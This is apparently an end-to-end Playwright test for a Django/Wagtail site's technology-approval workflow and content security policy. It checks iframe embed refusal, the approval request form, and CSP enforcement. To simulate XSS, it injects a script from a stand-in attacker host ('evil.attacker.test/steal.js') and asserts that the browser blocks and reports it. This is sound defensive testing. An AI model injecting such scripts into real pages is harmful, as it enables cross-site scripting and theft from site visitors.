"""A real Chromium on the live server: the registry becomes the browser's policy.

An editor's embed from an unapproved host is refused with the host named; the refusal's link
opens a pre-filled request; once IT approves it the same embed saves, the page's policy lists
the host and the page loads with no violation; a script injected from an unapproved host is
blocked by the browser itself and its violation report reaches the report endpoint.

Vendors are served by ``vendor_server`` (Chromium's proxy), so nothing leaves 127.0.0.1.
Database work stays outside ``sync_playwright()`` (Django refuses the ORM in its loop).
"""

import time
from typing import Any

from django.urls import reverse
from wagtail.models import Page

from commonground.content.models import StandardPage
from commonground.governance.models import CspViolation, Technology, TechnologyRequest

from ...browser import BROWSER_TEST
from ...conftest import client_for, sign_in_to_admin
from ...content.factories import StandardPageFactory
from ..vendor_server import launch_through, vendor_proxy, wait_for_policy

EMBED = "http://maps.vendor.test/embed?place=office"
INJECTED = "http://evil.attacker.test/steal.js"

pytestmark = BROWSER_TEST

# Collects the page's own view of violations from the first script on.
WATCH_VIOLATIONS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
    window.__violations.push({blocked: event.blockedURI, directive: event.effectiveDirective});
});
"""


def _add_embed_and_save(tab: Any, live_url: str, page_id: int) -> None:
    tab.goto(f"{live_url}/admin/pages/{page_id}/edit/")
    tab.wait_for_load_state("networkidle")
    tab.locator("button.c-sf-add-button").last.click()
    tab.get_by_role("option", name="Embed (iframe)").click()
    tab.locator("input[name$='-value-url']").last.fill(EMBED)
    tab.locator("input[name$='-value-title']").last.fill("Our office on the map")
    with tab.expect_navigation():
        tab.get_by_role("button", name="Save draft").click()


def _approve_everything_requested(it_admin: Any) -> None:
    client = client_for(it_admin)
    for request in TechnologyRequest.objects.filter(status__in=TechnologyRequest.OPEN):
        response = client.post(
            reverse("governance_request_decide", args=[request.pk]),
            {"decision": "approve", "rationale": "Maps are in the contract; DPA signed."},
        )
        assert response.status_code == 302


def test_an_unapproved_embed_is_refused_then_allowed_and_injected_scripts_are_blocked(
    live_url: str, home: Any, editor: Any, it_admin: Any
) -> None:
    from playwright.sync_api import sync_playwright

    page = StandardPageFactory(parent=home, title="Visit us")
    username = editor.username

    with vendor_proxy() as vendors, sync_playwright() as playwright:
        browser = launch_through(playwright, vendors)
        tab = browser.new_page()
        sign_in_to_admin(tab, live_url, username)
        _add_embed_and_save(tab, live_url, page.pk)
        refusal = tab.get_by_text("Embedded frames from “maps.vendor.test” are not approved")
        refusal.first.wait_for(timeout=10_000)
        link = tab.locator("a[data-technology-request]").first
        request_url = link.get_attribute("href")
        refusal.first.scroll_into_view_if_needed()
        tab.screenshot(path="test-artifacts/governance-embed-refused.png")
        # The link opens the request form with the host already filled in.
        tab.goto(live_url + request_url)
        prefilled_frame_hosts = tab.locator("[name=hosts_frame]").input_value()
        tab.fill("[name=name]", "Office maps")
        tab.fill("[name=vendor]", "Vendor Maps Ltd")
        tab.fill("[name=expected_value]", "Visitors find the office.")
        with tab.expect_navigation():
            tab.get_by_role("button", name="Submit the request").click()
        browser.close()

    assert "host=maps.vendor.test" in request_url and "directive=frame-src" in request_url
    assert prefilled_frame_hosts == "maps.vendor.test"
    assert not vendors.requests, "nothing may be fetched from a vendor while editing"
    assert Technology.objects.get(name="Office maps").status == Technology.Status.REQUESTED

    _approve_everything_requested(it_admin)

    with vendor_proxy() as vendors, sync_playwright() as playwright:
        browser = launch_through(playwright, vendors)
        tab = browser.new_page()
        sign_in_to_admin(tab, live_url, username)
        _add_embed_and_save(tab, live_url, page.pk)
        saved = tab.locator(".messages .success").count()
        browser.close()
    assert saved, "the same embed saves once the vendor is approved"

    revision = StandardPage.objects.get(pk=page.pk).get_latest_revision()
    revision.publish()
    live_path = Page.objects.get(pk=page.pk).url
    wait_for_policy(live_url + live_path, "maps.vendor.test")

    with vendor_proxy() as vendors, sync_playwright() as playwright:
        browser = launch_through(playwright, vendors)
        context = browser.new_context()
        context.add_init_script(WATCH_VIOLATIONS)
        tab = context.new_page()
        response = tab.goto(live_url + live_path)
        policy = response.headers["content-security-policy"]
        tab.wait_for_load_state("networkidle")
        frame_loaded = tab.frame_locator("iframe.embed__frame").get_by_text("Vendor widget")
        frame_loaded.wait_for(timeout=10_000)
        violations_on_load = tab.evaluate("window.__violations")
        # An attacker's script, injected into the page as an XSS would.
        tab.evaluate(
            "(src) => { const s = document.createElement('script'); s.src = src;"
            " document.head.appendChild(s); }",
            INJECTED,
        )
        tab.wait_for_function("window.__violations.length > 0", timeout=10_000)
        # The browser sends its report on its own; give it time before it goes away.
        tab.wait_for_timeout(2_000)
        violations_after = tab.evaluate("window.__violations")
        ran = tab.evaluate("window.vendorScriptRan || 0")
        tab.screenshot(path="test-artifacts/governance-embed-live.png", full_page=True)
        browser.close()

    frame_sources = next(p for p in policy.split(";") if p.strip().startswith("frame-src"))
    assert "maps.vendor.test" in frame_sources.split()
    assert violations_on_load == []
    assert ("maps.vendor.test", "/embed") in vendors.requests
    assert "evil.attacker.test" not in vendors.hosts(), "the browser must not fetch it"
    assert ran == 0
    assert violations_after == [{"blocked": INJECTED, "directive": "script-src-elem"}]
    deadline = time.monotonic() + 10
    while not CspViolation.objects.exists() and time.monotonic() < deadline:
        time.sleep(0.2)
    violation = CspViolation.objects.get()
    assert (violation.page_path, violation.directive, violation.blocked_host) == (
        live_path,
        "script-src",
        "evil.attacker.test",
    )
    assert violation.enforced and violation.count >= 1
